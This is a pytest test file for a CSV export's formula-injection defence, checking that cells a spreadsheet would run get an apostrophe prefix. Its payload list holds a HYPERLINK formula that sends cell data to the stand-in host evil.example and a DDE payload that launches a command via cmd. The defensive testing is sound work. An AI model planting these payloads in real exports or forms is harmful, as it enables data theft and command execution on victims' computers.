from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal

import pytest

from seat.core.exports import FORMULA_STARTS, csv_text, defuse_cell

# What an attacker types into a title, a chosen name or a note.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert defuse_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("Tara", "Tara"),
        ("Recruitment fees: 3-5 %", "Recruitment fees: 3-5 %"),
        ("", ""),
        (None, ""),
        (3, 3),
        (Decimal("-12.50"), Decimal("-12.50")),
        (datetime.date(2026, 3, 1), "2026-03-01"),
    ],
)
def test_ordinary_values_and_numbers_are_left_alone(value, expected):
    assert defuse_cell(value) == expected


def test_every_cell_of_a_csv_is_defused_header_included():
    text = csv_text(
        header=["title", "=name", "notes"],
        rows=[[PAYLOADS[0], "@Tara", "-note"], ["+title", "\tname", "\rnote"]],
    )
    rows = list(csv.reader(io.StringIO(text)))
    assert rows == [
        ["title", "'=name", "notes"],
        ["'" + PAYLOADS[0], "'@Tara", "'-note"],
        ["'+title", "'\tname", "'\rnote"],
    ]
    assert all(cell[:1] not in FORMULA_STARTS for row in rows for cell in row)
